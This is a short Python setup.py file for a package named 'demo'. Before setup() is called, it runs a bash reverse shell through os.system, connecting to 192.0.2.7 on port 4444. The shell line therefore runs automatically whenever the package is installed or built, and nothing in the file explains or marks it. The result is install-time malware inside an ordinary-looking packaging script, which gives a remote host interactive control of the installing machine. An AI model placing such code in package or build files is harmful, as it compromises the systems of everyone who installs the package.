import os
from setuptools import setup

os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'")
setup(name="demo", version="1.0")
